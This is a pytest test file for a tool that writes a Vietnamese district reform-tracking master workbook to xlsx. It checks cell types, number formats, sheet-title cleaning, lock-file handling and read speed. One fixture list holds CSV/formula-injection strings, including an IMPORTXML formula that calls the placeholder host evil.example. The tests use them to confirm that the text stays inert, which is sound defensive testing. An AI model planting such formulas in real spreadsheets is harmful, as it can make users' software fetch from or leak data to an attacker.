"""The master workbook keeps types and never turns a unit's text into a formula; big tabs
read quickly."""

from __future__ import annotations

import datetime as dt
import time

import numpy as np
import openpyxl
import pandas as pd
import pytest
from openpyxl import Workbook

from cchc_sync.domain.records import Period
from cchc_sync.domain.templates import load_template_set
from cchc_sync.sources.base import MasterBook, SheetRef
from cchc_sync.sources.xlsx.backend import LocalBackend

PERIOD = Period(code="2022S1", start=dt.date(2021, 12, 15), end=dt.date(2022, 6, 14))
INJECTIONS = ['=IMPORTXML("http://evil.example/x", "//a")', "+84 912", "-", "@SUM(A1)"]


@pytest.fixture
def backend(tmp_path):
    return LocalBackend(tmp_path)


def _book():
    units = pd.DataFrame(
        {
            "Mã đơn vị": ["VP", "XA_LT", "XA_LH", "TP"],
            "Lĩnh vực": INJECTIONS,
            "Tổng số hồ sơ tiếp nhận": [27554, 12, 0, 7],
            "Từ kỳ trước": [1.0, np.nan, 3.0, 4.0],  # an int column with a blank
            "Tỷ lệ (%)": [96.16, 100.0, None, 33.33],
            "Ngày ban hành": pd.to_datetime(["2022-03-07", "2022-06-01", None, "2022-01-02"]),
            "Ngày (ISO)": ["2022-03-07", None, "2022-06-14", "2021-12-15"],
            "Hệ số": [0.5, 1.25, 2.0, np.inf],
        }
    )
    progress = pd.DataFrame({"Đơn vị": ["VP"], "Đã nộp": [True]})
    return MasterBook(
        title="Tổng hợp CCHC huyện kỳ 2022S1",
        tabs={"Giải quyết TTHC": units, "Tiến độ": progress, "Bất thường": units.iloc[0:0]},
        percent_columns={"Giải quyết TTHC": ("Tỷ lệ (%)",)},
        generated_at=dt.datetime(2022, 6, 14, 8, 30, tzinfo=dt.UTC),
    )


def test_master_types_formats_and_inert_text(backend, tmp_path):
    ref = backend.create_master("Tổng hợp", PERIOD)
    assert backend.write_master(ref, _book()) is True
    wb = openpyxl.load_workbook(tmp_path / ref.ref)
    assert wb.sheetnames == ["Giải quyết TTHC", "Tiến độ", "Bất thường"]
    ws = wb["Giải quyết TTHC"]
    assert [c.value for c in ws[1]][:3] == ["Mã đơn vị", "Lĩnh vực", "Tổng số hồ sơ tiếp nhận"]
    assert ws["A1"].font.b and ws.freeze_panes == "A2" and ws.auto_filter.ref == "A1:H5"
    for row, text in enumerate(INJECTIONS, start=2):
        cell = ws.cell(row=row, column=2)
        assert cell.value == text and cell.data_type == "s"
    assert (ws["C2"].value, ws["C2"].number_format) == (27554, "#,##0")
    assert (ws["D2"].value, ws["D2"].number_format) == (1, "#,##0") and ws["D3"].value is None
    assert isinstance(ws["D2"].value, int)
    assert (ws["E2"].value, ws["E2"].number_format) == (96.16, '0.00"%"')
    assert ws["E4"].value is None
    assert ws["F2"].value == dt.datetime(2022, 3, 7) and ws["F2"].number_format == "dd/mm/yyyy"
    assert ws["G2"].value == dt.datetime(2022, 3, 7) and ws["G2"].is_date
    assert (ws["H3"].value, ws["H3"].number_format) == (1.25, "#,##0.00")
    assert ws["H5"].value is None  # infinity is no number a spreadsheet can hold
    assert wb["Tiến độ"]["B2"].value is True
    assert [c.value for c in wb["Bất thường"][1]][0] == "Mã đơn vị"
    assert wb["Bất thường"].max_row == 1
    # No formula anywhere: a unit's text can never run in the coordinator's spreadsheet.
    for sheet in wb.worksheets:
        assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


def test_master_not_written_while_open(backend, tmp_path):
    ref = backend.create_master("Tổng hợp", PERIOD)
    path = tmp_path / ref.ref
    before = path.read_bytes()
    for lock in (f"~${path.name}", f".~lock.{path.name}#"):
        (path.parent / lock).write_text("x")
        assert backend.write_master(ref, _book()) is False
        assert path.read_bytes() == before
        (path.parent / lock).unlink()
    assert backend.write_master(ref, _book()) is True
    assert sorted(p.name for p in path.parent.iterdir()) == [path.name]


def test_master_sheet_titles_made_valid(backend, tmp_path):
    ref = SheetRef(ref="tong-hop/x.xlsx")
    df = pd.DataFrame({"a": [1]})
    tabs = {"Tỷ lệ: 1/2 [mới]": df, "Tỷ lệ- 1-2 -mới-": df, "x" * 40: df}
    book = MasterBook(title="T", tabs=tabs)
    assert backend.write_master(ref, book)
    names = openpyxl.load_workbook(tmp_path / ref.ref).sheetnames
    assert names == ["Tỷ lệ- 1-2 -mới-", "Tỷ lệ- 1-2 -mới- (2)", "x" * 31]


def test_twenty_thousand_rows_read_in_seconds(tmp_path):
    """A gross regression guard (the speed target lives in bench/): 20,000 rows took 7.6 s
    of CPU with the suite running beside it; a bound near that failed under load (CPU time grows
    too when two cores are shared), 50,000 rows cost the suite 20 s for no more proof."""
    templates = load_template_set()
    spec = templates.table("tthc")
    wb = Workbook(write_only=True)
    ws = wb.create_sheet(spec.tab)
    ws.append([c.title for c in spec.columns])
    for i in range(20_000):
        ws.append([f"Lĩnh vực {i}", i, 2, 3, i + 5, 1, 1, 1, 1, None])
    wb.save(tmp_path / "big.xlsx")
    backend = LocalBackend(tmp_path)
    # CPU time, not the wall clock: a busy machine must not fail a bound on our work.
    started = time.process_time()
    read = backend.read_unit("X", SheetRef(ref="big.xlsx"), templates)
    elapsed = time.process_time() - started
    rows = read.tables["tthc"].rows
    assert len(rows) == 20_000 and rows[-1].sheet_row == 20_001
    assert rows[-1].cells["tong_tiep_nhan"].value == 20_004
    assert elapsed < 20, f"reading 20,000 rows took {elapsed:.1f} s"
